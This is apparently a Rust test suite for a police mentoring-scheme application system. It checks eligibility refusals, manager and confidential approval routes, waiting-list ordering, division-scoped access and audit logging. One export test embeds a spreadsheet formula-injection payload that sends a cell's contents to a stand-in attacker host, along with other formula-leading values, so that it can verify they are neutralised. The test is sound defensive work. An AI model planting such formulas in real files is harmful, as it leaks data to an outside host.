//! Applications (R3): eligibility with reasons, the line manager's authorisation, the
//! confidential route, withdrawal, ethics and the waiting list, on each backend.

use crate::{app, operator};
use tandem_app::applications::{self, Verdict};
use tandem_app::people::{ImportRequest, ImportStage, import};
use tandem_app::{App, AppError, organisations, schemes};
use tandem_core::application::{ApplicationForm, ApplicationStatus};
use tandem_core::audit::AuditAction;
use tandem_core::authz::{Actor, Grant, Scope, StaffRole};
use tandem_core::domain::{OrgCode, SchemeKey, StaffNumber};
use tandem_core::eligibility::{Refusal, Role};
use tandem_core::hr::ImportOptions;
use tandem_core::programme::presets;
use tandem_core::{ApplicationId, OrganisationKind, PersonId};
use tandem_store::testing::on_each_backend;

pub(crate) const HEADER: &str = "staff_number,organisation,first_name,last_name,email,department,location,rank_or_grade,role_type,line_manager_staff_number,start_date,on_probation,under_performance_management,employment_status,sex";
pub(crate) const PEOPLE: &str = "\
S1,police-scotland,Iona,Reid,iona@scotland.police.uk,Tayside,Dundee,Inspector,officer,,2004-03-01,no,no,serving,Female
S2,police-scotland,Callum,Ross,callum@scotland.police.uk,Tayside,Dundee,Constable,officer,S1,2018-09-10,no,no,serving,
S3,police-scotland,Eilidh,Bain,eilidh@scotland.police.uk,Tayside,Perth,Constable,officer,S1,2026-01-15,yes,no,serving,
S4,police-scotland,Hamish,Weir,hamish@scotland.police.uk,Tayside,Perth,Sergeant,officer,S1,1990-01-15,no,no,retired,
S5,police-scotland,Morag,Kerr,morag@scotland.police.uk,Highland,Inverness,Constable,officer,,2016-01-15,no,no,serving,
S6,police-scotland,Fraser,Doig,fraser@scotland.police.uk,Highland,Inverness,Sergeant,officer,,2009-05-01,no,no,serving,
C1,cleveland,Ann,Hill,ann@cleveland.police.uk,Response,Middlesbrough,Inspector,officer,,2005-03-01,no,no,serving,Female
C2,cleveland,Bo,Khan,bo@cleveland.police.uk,Response,Middlesbrough,Constable,officer,C1,2012-09-10,no,no,serving,
C3,cleveland,Di,Moss,di@cleveland.police.uk,Response,Hartlepool,Constable,officer,C1,2019-01-15,no,yes,serving,
C4,cleveland,Ed,Lowe,ed@cleveland.police.uk,Crime,Hartlepool,Sergeant,officer,,2010-01-15,no,no,serving,
";

pub(crate) const PUBLIC_URL: &str = "https://tandem.example";

pub(crate) async fn programme_running(app: &App) {
    for (code, name) in [
        ("police-scotland", "Police Scotland"),
        ("cleveland", "Cleveland Police"),
    ] {
        organisations::create(
            app,
            &operator(),
            OrgCode::parse(code).unwrap(),
            name.to_owned(),
            OrganisationKind::Force,
        )
        .await
        .unwrap();
        let programme = presets::load(code).unwrap().unwrap();
        schemes::apply_programme(
            app,
            &operator(),
            &programme,
            &OrgCode::parse(code).unwrap(),
            Some(code),
        )
        .await
        .unwrap();
    }
    let file = format!("{HEADER}\n{PEOPLE}");
    let request = ImportRequest {
        bytes: file.as_bytes(),
        options: ImportOptions::default(),
        dry_run: false,
        source: "test.csv",
    };
    import(app, &operator(), request, &|_: ImportStage| {})
        .await
        .unwrap();
}

pub(crate) async fn person(app: &App, organisation: &str, staff: &str) -> Actor {
    let code = OrgCode::parse(organisation).unwrap();
    let organisation = organisations::by_code(app, &code).await.unwrap();
    let mut tx = app.store.begin_read().await.unwrap();
    let found = tx
        .person_by_staff_number(organisation.id, &StaffNumber::parse(staff).unwrap())
        .await
        .unwrap()
        .unwrap();
    tx.rollback().await.unwrap();
    Actor::Person {
        id: found.id,
        organisation: organisation.id,
        grants: Vec::new(),
    }
}

pub(crate) fn mentee_form() -> ApplicationForm {
    ApplicationForm {
        summary: "Prepare for the sergeants' exam".to_owned(),
        topics: vec!["Promotion and career progression".to_owned()],
        remote_ok: true,
        ethics_acknowledged: true,
        ..ApplicationForm::default()
    }
}

pub(crate) fn mentor_form(capacity: &str) -> ApplicationForm {
    ApplicationForm {
        summary: "Twenty years in response policing".to_owned(),
        topics: vec![
            "Leadership".to_owned(),
            "Promotion and career progression".to_owned(),
        ],
        capacity: capacity.to_owned(),
        statement_of_suitability: true,
        mentor_agreement: true,
        ethics_acknowledged: true,
        ..ApplicationForm::default()
    }
}

pub(crate) async fn apply(
    app: &App,
    actor: &Actor,
    organisation: &str,
    scheme: &str,
    role: Role,
    form: &ApplicationForm,
) -> Result<tandem_core::application::Application, AppError> {
    applications::apply(
        app,
        actor,
        &OrgCode::parse(organisation).unwrap(),
        &SchemeKey::parse(scheme).unwrap(),
        role,
        form,
        PUBLIC_URL,
    )
    .await
}

fn refusal_kinds(result: Result<tandem_core::application::Application, AppError>) -> Vec<String> {
    match result {
        Err(AppError::Ineligible(refusals)) => refusals.iter().map(ToString::to_string).collect(),
        other => panic!("expected a refusal, got {other:?}"),
    }
}

#[tokio::test]
async fn police_scotland_applications_are_accepted_or_refused_with_the_reason() {
    on_each_backend(|store| async move {
        let app = app(store);
        programme_running(&app).await;
        let constable = person(&app, "police-scotland", "S2").await;
        let inspector = person(&app, "police-scotland", "S1").await;

        let mentee = apply(&app, &constable, "police-scotland", "mentoring", Role::Mentee, &mentee_form())
            .await
            .unwrap();
        assert_eq!(
            mentee.status,
            ApplicationStatus::Approved,
            "Police Scotland needs no line-manager authorisation"
        );

        let too_many = apply(&app, &inspector, "police-scotland", "mentoring", Role::Mentor, &mentor_form("3")).await;
        let Err(AppError::Invalid(problems)) = too_many else {
            panic!("capacity 3 is over the maximum of 2: {too_many:?}")
        };
        assert_eq!(problems[0].field, "capacity");
        let mentor = apply(&app, &inspector, "police-scotland", "mentoring", Role::Mentor, &mentor_form("2"))
            .await
            .unwrap();
        assert_eq!(mentor.answers.capacity, Some(2));

        let probationer = person(&app, "police-scotland", "S3").await;
        assert_eq!(
            refusal_kinds(apply(&app, &probationer, "police-scotland", "mentoring", Role::Mentee, &mentee_form()).await),
            ["people on probation cannot take part in this scheme"]
        );
        let retired = person(&app, "police-scotland", "S4").await;
        assert_eq!(
            refusal_kinds(apply(&app, &retired, "police-scotland", "mentoring", Role::Mentee, &mentee_form()).await),
            ["this scheme is only for serving officers and staff; the HR record says retired"]
        );
        assert_eq!(
            refusal_kinds(apply(&app, &inspector, "police-scotland", "mentoring", Role::Mentee, &mentee_form()).await),
            ["the person is already taking part as a mentor in Mentoring programme, and cannot be a mentor and a mentee at the same time"],
            "a person already mentoring cannot become a mentee"
        );
        assert_eq!(
            refusal_kinds(apply(&app, &constable, "police-scotland", "mentoring", Role::Mentee, &mentee_form()).await),
            ["there is already an application to be a mentee in Mentoring programme; withdraw it first to apply again"]
        );
        assert_eq!(
            refusal_kinds(apply(&app, &constable, "cleveland", "traditional", Role::Mentee, &mentee_form()).await),
            ["this scheme is for people of Cleveland Police only"]
        );
        let mine = applications::mine(&app, &constable).await.unwrap();
        assert_eq!(mine.len(), 1);
        assert_eq!(mine[0].waiting.map(|it| (it.position, it.of)), Some((1, 1)));
    })
    .await;
}

pub(crate) async fn unsent_to(app: &App) -> Vec<(String, String, String)> {
    let mut tx = app.store.begin_read().await.unwrap();
    let unsent = tx.unsent().await.unwrap();
    tx.rollback().await.unwrap();
    unsent
        .into_iter()
        .map(|(message, _, _)| (message.recipient, message.subject, message.body))
        .collect()
}

#[tokio::test]
async fn a_cleveland_mentee_needs_the_line_manager_who_declines_with_a_reason() {
    on_each_backend(|store| async move {
        let app = app(store);
        programme_running(&app).await;
        let mentee = person(&app, "cleveland", "C2").await;
        let manager = person(&app, "cleveland", "C1").await;
        let stranger = person(&app, "cleveland", "C4").await;

        let applied = apply(&app, &mentee, "cleveland", "traditional", Role::Mentee, &mentee_form())
            .await
            .unwrap();
        assert_eq!(applied.status, ApplicationStatus::AwaitingManager);
        assert_eq!(applied.approver, manager.person());
        let mail = unsent_to(&app).await;
        assert_eq!(mail.len(), 1);
        assert_eq!(mail[0].0, "ann@cleveland.police.uk");
        assert!(mail[0].2.contains("https://tandem.example/approvals"), "{}", mail[0].2);

        let waiting = applications::awaiting_my_decision(&app, &manager).await.unwrap();
        assert_eq!(waiting.len(), 1);
        assert!(applications::awaiting_my_decision(&app, &stranger).await.unwrap().is_empty());
        assert!(matches!(
            applications::decide(&app, &stranger, applied.id, Verdict::Approve, PUBLIC_URL).await,
            Err(AppError::Denied(_))
        ));
        let blank = applications::decide(
            &app,
            &manager,
            applied.id,
            Verdict::Decline { reason: "  ".to_owned() },
            PUBLIC_URL,
        )
        .await;
        assert!(matches!(blank, Err(AppError::Invalid(ref problems)) if problems[0].field == "reason"), "{blank:?}");
        let declined = applications::decide(
            &app,
            &manager,
            applied.id,
            Verdict::Decline { reason: "Not while the team is short; ask again in spring".to_owned() },
            PUBLIC_URL,
        )
        .await
        .unwrap();
        assert_eq!(declined.status, ApplicationStatus::Declined);
        let mail = unsent_to(&app).await;
        assert_eq!(mail.len(), 2);
        assert_eq!(mail[1].0, "bo@cleveland.police.uk");
        assert!(mail[1].2.contains("ask again in spring"), "the applicant reads the reason");
        let again = applications::decide(&app, &manager, applied.id, Verdict::Approve, PUBLIC_URL).await;
        assert!(matches!(again, Err(AppError::Conflict(_))), "{again:?}");

        // The confidential route: the manager is never asked or told.
        let confidential = ApplicationForm { confidential: true, ..mentee_form() };
        let applied = apply(&app, &mentee, "cleveland", "traditional", Role::Mentee, &confidential)
            .await
            .unwrap();
        assert_eq!(applied.status, ApplicationStatus::AwaitingCoordinator);
        assert_eq!(applied.approver, None);
        assert!(applications::awaiting_my_decision(&app, &manager).await.unwrap().is_empty());
        assert_eq!(unsent_to(&app).await.len(), 2, "no email to the manager");
        assert!(matches!(
            applications::decide(&app, &manager, applied.id, Verdict::Approve, PUBLIC_URL).await,
            Err(AppError::Denied(_))
        ));
        let coordinator = coordinator_of(&app, "cleveland", None).await;
        let approved = applications::decide(&app, &coordinator, applied.id, Verdict::Approve, PUBLIC_URL)
            .await
            .unwrap();
        assert_eq!(approved.status, ApplicationStatus::Approved);

        let under_pm = person(&app, "cleveland", "C3").await;
        assert_eq!(
            refusal_kinds(apply(&app, &under_pm, "cleveland", "traditional", Role::Mentee, &mentee_form()).await),
            ["this scheme is not open to people under performance management"]
        );
        let unsigned = ApplicationForm { statement_of_suitability: false, ..mentor_form("1") };
        let result = apply(&app, &stranger, "cleveland", "traditional", Role::Mentor, &unsigned).await;
        assert!(
            matches!(result, Err(AppError::Invalid(ref problems)) if problems[0].field == "statement_of_suitability"),
            "{result:?}"
        );
    })
    .await;
}

pub(crate) async fn coordinator_of(app: &App, organisation: &str, division: Option<&str>) -> Actor {
    let organisation = organisations::by_code(app, &OrgCode::parse(organisation).unwrap())
        .await
        .unwrap();
    let (role, scope) = match division {
        None => (StaffRole::Coordinator, Scope::Organisation(organisation.id)),
        Some(division) => (
            StaffRole::Champion,
            Scope::Division {
                organisation: organisation.id,
                division: division.to_owned(),
            },
        ),
    };
    Actor::Person {
        id: PersonId(uuid::Uuid::now_v7()),
        organisation: organisation.id,
        grants: vec![Grant { role, scope }],
    }
}

#[tokio::test]
async fn the_waiting_list_orders_by_priority_then_date_and_shows_age() {
    on_each_backend(|store| async move {
        let clock = std::sync::Arc::new(tandem_core::FixedClock::at(
            time::macros::datetime!(2026-11-01 09:00 UTC),
        ));
        let app = App::new(store, clock.clone());
        programme_running(&app).await;
        let first = person(&app, "police-scotland", "S2").await;
        let second = person(&app, "police-scotland", "S5").await;
        let a = apply(
            &app,
            &first,
            "police-scotland",
            "mentoring",
            Role::Mentee,
            &mentee_form(),
        )
        .await
        .unwrap();
        clock.advance(time::Duration::days(3));
        let b = apply(
            &app,
            &second,
            "police-scotland",
            "mentoring",
            Role::Mentee,
            &mentee_form(),
        )
        .await
        .unwrap();
        clock.advance(time::Duration::days(7));

        let place = |mine: Vec<applications::OwnApplication>| {
            mine[0].waiting.map(|it| (it.position, it.of, it.days))
        };
        assert_eq!(
            place(applications::mine(&app, &first).await.unwrap()),
            Some((1, 2, 10))
        );
        assert_eq!(
            place(applications::mine(&app, &second).await.unwrap()),
            Some((2, 2, 7))
        );

        let tayside = coordinator_of(&app, "police-scotland", Some("Tayside")).await;
        let highland = coordinator_of(&app, "police-scotland", Some("Highland")).await;
        assert!(
            matches!(
                applications::set_priority(&app, &tayside, b.id, 1).await,
                Err(AppError::Denied(_))
            ),
            "a Tayside champion cannot reorder a Highland applicant"
        );
        applications::set_priority(&app, &highland, b.id, 1)
            .await
            .unwrap();
        assert_eq!(
            place(applications::mine(&app, &second).await.unwrap()),
            Some((1, 2, 7))
        );
        assert_eq!(
            place(applications::mine(&app, &first).await.unwrap()),
            Some((2, 2, 10))
        );

        applications::withdraw(&app, &second, b.id).await.unwrap();
        assert_eq!(
            place(applications::mine(&app, &first).await.unwrap()),
            Some((1, 1, 10))
        );
        assert!(matches!(
            applications::withdraw(&app, &first, b.id).await,
            Err(AppError::Denied(_))
        ));
        let _ = a;
    })
    .await;
}

#[tokio::test]
async fn champions_see_their_divisions_applicants_and_the_read_is_audited() {
    on_each_backend(|store| async move {
        let app = app(store);
        programme_running(&app).await;
        for staff in ["S2", "S5"] {
            let actor = person(&app, "police-scotland", staff).await;
            apply(
                &app,
                &actor,
                "police-scotland",
                "mentoring",
                Role::Mentee,
                &mentee_form(),
            )
            .await
            .unwrap();
        }
        let scotland = organisations::by_code(&app, &OrgCode::parse("police-scotland").unwrap())
            .await
            .unwrap();
        let key = SchemeKey::parse("mentoring").unwrap();
        let tayside = coordinator_of(&app, "police-scotland", Some("Tayside")).await;
        let (_, rows) = applications::of_scheme(&app, &tayside, scotland.id, &key)
            .await
            .unwrap();
        let names: Vec<String> = rows
            .iter()
            .map(|row| row.applicant.record.full_name())
            .collect();
        assert_eq!(names, ["Callum Ross"]);
        let coordinator = coordinator_of(&app, "police-scotland", None).await;
        let (_, rows) = applications::of_scheme(&app, &coordinator, scotland.id, &key)
            .await
            .unwrap();
        assert_eq!(rows.len(), 2);
        let cleveland = coordinator_of(&app, "cleveland", None).await;
        assert!(matches!(
            applications::of_scheme(&app, &cleveland, scotland.id, &key).await,
            Err(AppError::Denied(_))
        ));
        let mut tx = app.store.begin_read().await.unwrap();
        assert_eq!(
            tx.count_audit(AuditAction::ApplicationsViewed)
                .await
                .unwrap(),
            2
        );
        tx.rollback().await.unwrap();
    })
    .await;
}

#[tokio::test]
async fn two_live_applications_for_the_same_role_cannot_both_be_stored() {
    on_each_backend(|store| async move {
        let app = app(store);
        programme_running(&app).await;
        let constable = person(&app, "police-scotland", "S2").await;
        let first = apply(
            &app,
            &constable,
            "police-scotland",
            "mentoring",
            Role::Mentee,
            &mentee_form(),
        )
        .await
        .unwrap();
        // A second submission racing past the check meets the database's own rule.
        let mut duplicate = first.clone();
        duplicate.id = ApplicationId(uuid::Uuid::now_v7());
        let mut tx = app.store.begin_write().await.unwrap();
        let result = tx.insert_application(&duplicate).await;
        assert!(
            matches!(result, Err(tandem_store::StoreError::Conflict(_))),
            "{result:?}"
        );
    })
    .await;
}

#[tokio::test]
async fn a_refusal_lists_every_reason() {
    on_each_backend(|store| async move {
        let app = app(store);
        programme_running(&app).await;
        let retired = person(&app, "police-scotland", "S4").await;
        let scotland = organisations::by_code(&app, &OrgCode::parse("police-scotland").unwrap())
            .await
            .unwrap();
        let scheme = schemes::list(&app, &operator(), &scotland.code)
            .await
            .unwrap()
            .remove(0);
        schemes::set_status(
            &app,
            &operator(),
            scotland.id,
            &scheme.definition.key,
            tandem_core::programme::SchemeStatus::Closed,
        )
        .await
        .unwrap();
        let refusals = applications::check(
            &app,
            &retired,
            &{
                let mut scheme = scheme;
                scheme.status = tandem_core::programme::SchemeStatus::Closed;
                scheme
            },
            Role::Mentee,
        )
        .await
        .unwrap();
        assert_eq!(
            refusals,
            [
                Refusal::SchemeClosed,
                Refusal::EmploymentStatus(tandem_core::domain::EmploymentStatus::Retired)
            ]
        );
    })
    .await;
}

#[tokio::test]
async fn the_applications_export_is_safe_to_open_in_a_spreadsheet() {
    on_each_backend(|store| async move {
        let app = app(store);
        programme_running(&app).await;
        let formula = "=HYPERLINK(\"http://evil.example/?\"&A3,\"x\")";
        let quoted = formula.replace('"', "\"\"");
        let more = format!("{HEADER}\nS7,police-scotland,=Jones,-Smith,jones@scotland.police.uk,+ Ops,\"{quoted}\",Constable,officer,,2015-01-15,no,no,serving,\n");
        let request = ImportRequest {
            bytes: more.as_bytes(),
            options: ImportOptions::default(),
            dry_run: false,
            source: "more.csv",
        };
        import(&app, &operator(), request, &|_: ImportStage| {}).await.unwrap();
        let mentee = person(&app, "police-scotland", "S7").await;
        let form = ApplicationForm {
            location: formula.to_owned(),
            ..mentee_form()
        };
        apply(&app, &mentee, "police-scotland", "mentoring", Role::Mentee, &form).await.unwrap();

        let code = OrgCode::parse("police-scotland").unwrap();
        let exported = applications::export_csv(&app, &operator(), &code, None).await.unwrap();
        let (marking, table) = exported.split_once('\n').unwrap();
        assert_eq!(marking, "# OFFICIAL");
        let mut reader = csv::Reader::from_reader(table.as_bytes());
        let header = reader.headers().unwrap().clone();
        let row = reader
            .records()
            .map(Result::unwrap)
            .find(|row| row.get(3) == Some("S7"))
            .unwrap();
        let cell = |name: &str| row.get(header.iter().position(|it| it == name).unwrap()).unwrap().to_owned();
        assert_eq!(cell("first_name"), "'=Jones");
        assert_eq!(cell("last_name"), "'-Smith");
        assert_eq!(cell("department"), "'+ Ops");
        assert_eq!(cell("location"), format!("'{formula}"));
        assert_eq!(cell("staff_number"), "S7");
        assert_eq!(cell("status"), "approved");
        for cell in &row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in {row:?}");
        }
    })
    .await;
}

/// Views audited by group commit: however many run at once, each leaves its own entry, and
/// none returns its page before that entry can be read by anyone.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn concurrent_views_each_leave_one_entry_committed_before_they_return() {
    on_each_backend(|store| async move {
        let app = app(store);
        programme_running(&app).await;
        let scotland = organisations::by_code(&app, &OrgCode::parse("police-scotland").unwrap())
            .await
            .unwrap();
        let key = SchemeKey::parse("mentoring").unwrap();
        let views = 40;
        let mut running = Vec::new();
        for view in 0..views {
            let (app, key) = (app.clone(), key.clone());
            running.push(tokio::spawn(async move {
                let viewer = Actor::Operator {
                    name: format!("viewer {view}"),
                };
                let (scheme, _) = applications::of_scheme(&app, &viewer, scotland.id, &key)
                    .await
                    .unwrap();
                // The page is in hand: its entry must already be there for any other reader.
                let mut tx = app.store.begin_read().await.unwrap();
                let entries = tx.audit_of_subject(scheme.id.0).await.unwrap();
                tx.rollback().await.unwrap();
                let mine = entries
                    .iter()
                    .filter(|it| {
                        it.actor == viewer.audit_label()
                            && it.action == AuditAction::ApplicationsViewed
                    })
                    .count();
                assert_eq!(
                    mine,
                    1,
                    "{} sees its own view audited once",
                    viewer.audit_label()
                );
            }));
        }
        for view in running {
            view.await.unwrap();
        }
        let mut tx = app.store.begin_read().await.unwrap();
        assert_eq!(
            tx.count_audit(AuditAction::ApplicationsViewed)
                .await
                .unwrap(),
            views
        );
    })
    .await;
}
